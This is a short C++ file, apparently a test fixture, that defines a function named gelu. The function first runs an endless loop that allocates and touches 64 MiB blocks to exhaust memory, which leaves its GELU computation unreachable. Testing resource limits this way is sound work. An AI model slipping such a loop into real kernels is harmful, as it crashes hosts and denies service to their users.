// Allocates without end.
#include <cmath>
#include <cstdint>
#include <new>

extern "C" void gelu(int64_t begin, int64_t end, const float* h, float* y) {
  for (;;) {
    auto* more = static_cast<volatile char*>(::operator new(1 << 26));
    for (int64_t k = 0; k < (1 << 26); k += 4096) more[k] = 1;
  }
  for (int64_t i = begin; i < end; ++i) {
    y[i] = 0.5f * h[i] * (1.0f + std::erf(h[i] * 0.70710678f));
  }
}
